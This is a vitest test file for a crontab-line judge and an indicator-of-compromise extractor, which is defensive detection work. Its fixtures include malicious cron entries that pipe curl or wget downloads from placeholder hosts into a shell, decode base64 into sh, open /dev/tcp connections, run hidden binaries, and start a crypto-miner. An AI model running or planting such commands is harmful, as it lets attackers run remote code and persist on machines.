import { describe, expect, it } from 'vitest';
import { judgeLine } from '../../../src/evidence/line-judge.js';
import { extractIocs } from '../../../src/evidence/iocs-extract.js';
import { catalogue } from './fixtures.js';

const reasons = (l: string) => judgeLine(l, catalogue).reasons;

describe('judgeLine', () => {
  it.each([
    ['*/5 * * * * curl -fsSL http://1.2.3.4/i.sh | sh', 'download-pipe-shell'],
    ['*/5 * * * * wget -q -O- http://1.2.3.4/i.sh | /bin/bash', 'download-pipe-shell'],
    ['* * * * * bash -c "$(curl -fsSL http://x.example/a)"', 'download-pipe-shell'],
    ['* * * * * wget -O /tmp/.x http://x.example/x && chmod +x /tmp/.x && /tmp/.x', 'download-pipe-shell'],
    ['* * * * * echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQK | base64 -d | sh', 'base64-blob'],
    ['@reboot /dev/shm/.x/run', 'exec-temp'],
    ['5 6 * * 0 /root/.configrc5/a/upd>/dev/null 2>&1', 'exec-hidden'],
    ['* * * * * exec 3<>/dev/tcp/1.2.3.4/80', 'dev-tcp'],
    ['* * * * * /usr/bin/x --donate-level 1', 'miner-marker'],
  ])('%s -> %s', (line, r) => expect(reasons(line)).toContain(r));

  it.each([
    '17 * * * * root cd / && run-parts --report /etc/cron.hourly',
    '*/5 * * * * root curl -fsS -m 10 -o /dev/null https://hc-ping.com/abc',
    '0 2 * * * /usr/local/bin/backup.sh > /tmp/backup.log 2>&1',
    '*/10 * * * * find /tmp -name "sess_*" -mmin +60 -delete',
    '0 3 * * * rm -rf /tmp/cache/*',
    '0 0 * * * "/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null',
    'export PATH="$HOME/.local/bin:$PATH"',
    '0 4 * * * curl -s https://example.com/feed.json -o /var/lib/feed.json',
  ])('legitimate: %s', (line) => expect(reasons(line)).toEqual([]));
});

describe('extractIocs', () => {
  it('URLs, their hosts, addresses and dropped paths', () => {
    const v = extractIocs('curl -fsSL http://198.18.3.202:8443/i.sh -o /tmp/i.sh; sh /tmp/i.sh; x -o pool.minexmr.com:4444').map((i) => `${i.type}:${i.value}`);
    expect(v).toEqual(expect.arrayContaining(['url:http://198.18.3.202:8443/i.sh', 'ip:198.18.3.202', 'path:/tmp/i.sh', 'domain:pool.minexmr.com']));
  });
  it('never loopback, never a bare /tmp, never a shared hosting domain', () => {
    const v = extractIocs('curl https://raw.githubusercontent.com/x/y/z.sh | sh; cd /tmp; ping 127.0.0.1').map((i) => `${i.type}:${i.value}`);
    expect(v).toEqual(['url:https://raw.githubusercontent.com/x/y/z.sh']);
  });
});
